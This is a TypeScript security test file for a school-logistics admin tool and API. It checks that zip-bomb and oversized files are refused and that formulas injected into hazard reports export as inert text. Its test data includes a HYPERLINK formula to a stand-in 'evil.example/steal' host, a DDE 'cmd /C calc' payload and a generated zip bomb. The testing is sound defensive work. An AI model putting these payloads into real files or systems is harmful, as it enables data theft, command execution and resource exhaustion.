import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { DEMO_DISTRICT } from '../../infra/local/demo/district';
import { looksLikeFormula } from '../../shared/spreadsheets/formula-text';
import { localDate } from '../../shared/time';
import { workbookBomb } from '../support/zip';
import { useLocalStack } from './support';

/*
 * Issue 19, points 7 and 8, replayed against the local stack.
 * 7. Files handed to an administrator (a roster, last year's records) that would exhaust the
 *    machine reading them: a zip bomb shaped as a workbook, a 200 MB sheet. `npm run admin`
 *    refuses each with a message in the caller's language and writes nothing.
 * 8. A school that writes a formula into a hazard report, hoping an official's spreadsheet
 *    program runs it when the month's report workbook is opened: the workbook shows it as text.
 */

const DISTRICT = DEMO_DISTRICT.districtId;
const HYPERLINK = '=HYPERLINK("http://evil.example/steal","点此查看整改要求")';
const DDE = "-2+3+cmd|' /C calc'!A0";

/** The first day of last month in the district's time. */
function lastMonthFirstDay(): string {
  const thisMonth = `${localDate(DEMO_DISTRICT.timezone, new Date()).slice(0, 7)}-01`;
  const lastDay = new Date(Date.parse(`${thisMonth}T00:00:00Z`) - 86_400_000).toISOString();
  return `${lastDay.slice(0, 7)}-01`;
}

describe('files as an attacker hands them in', () => {
  const target = useLocalStack();
  let dir: string;

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'houqin-security-files-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  /** The district's schools as `school list --json` prints them. */
  const schools = async () => {
    const run = await target.admin(['school', 'list', '--district', DISTRICT, '--json']);
    expect(run.code).toBe(0);
    return run.stdout;
  };

  it('refuses a zip bomb handed in as a roster (60 MB of sheet in 65 KB), in Chinese and in English, and registers no school', async () => {
    // Prepare
    const path = join(dir, '学校花名册.xlsx');
    writeFileSync(path, await workbookBomb(60_000_000));
    const before = await schools();
    // Act
    const zh = await target.admin(['school', 'import', '--district', DISTRICT, path]);
    const en = await target.admin(['school', 'import', '--district', DISTRICT, path, '--lang', 'en']);
    // Assess
    expect(zh.code).toBe(1);
    expect(zh.stdout + zh.stderr).toContain('文件解压后过大：60 MB，花名册文件解压后最大 50 MB');
    expect(en.code).toBe(1);
    expect(en.stdout + en.stderr).toContain('The workbook unpacks to 60 MB; a roster may unpack to at most 50 MB');
    expect(await schools()).toBe(before);
  }, 120_000);

  it('refuses a 200 MB sheet handed in as last year’s records, and records nothing', async () => {
    // Prepare: a sparse file, 200 MB to whoever reads it
    const path = join(dir, '食堂检查-2025.csv');
    writeFileSync(path, '');
    truncateSync(path, 200_000_000);
    const month = lastMonthFirstDay().slice(0, 7);
    const submissionsOf = () =>
      target.call('GET', `/v1/submissions?month=${month}&limit=500`, { token: target.tokens.official });
    const before = await submissionsOf();
    // Act
    const run = await target.admin(['history', 'import', '--district', DISTRICT, '--form', 'canteen-daily', path]);
    // Assess
    expect(run.code).toBe(1);
    expect(run.stdout + run.stderr).toContain('文件过大：200 MB，历史记录文件最大 20 MB');
    expect(before.status).toBe(200);
    expect((await submissionsOf()).body).toEqual(before.body);
  }, 120_000);

  it('writes a school’s formula in a hazard report into the month’s report workbook as text an official’s spreadsheet program cannot run', async () => {
    // Prepare: a critical hazard found on the 1st of last month (listed in the report's hazard sheet)
    const date = lastMonthFirstDay();
    const school = target.tokens.schools[0]!;
    const reported = await target.call('POST', '/v1/submissions', {
      token: school.token,
      body: {
        submissionId: randomUUID(),
        formType: 'hazard-report',
        date,
        answers: { place: DDE, category: 'electrical', severity: 'critical', description: HYPERLINK },
      },
    });
    expect(reported.status).toBe(201);
    const month = date.slice(0, 7);
    const produced = await target.call('POST', `/v1/reports/${month}`, { token: target.tokens.official, body: {} });
    expect(produced.status).toBe(200);
    // Act
    const response = await fetch(`${target.apiUrl}/v1/reports/${month}/workbook`, {
      headers: { authorization: `Bearer ${target.tokens.official}` },
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await response.arrayBuffer()) as ArrayBuffer);
    // Assess
    expect(response.status).toBe(200);
    const texts: string[] = [];
    for (const sheet of workbook.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      );
    expect(texts).toEqual(expect.arrayContaining([`'${HYPERLINK}`, `'${DDE}`]));
    expect(texts.filter(looksLikeFormula)).toEqual([]);
  }, 120_000);
});
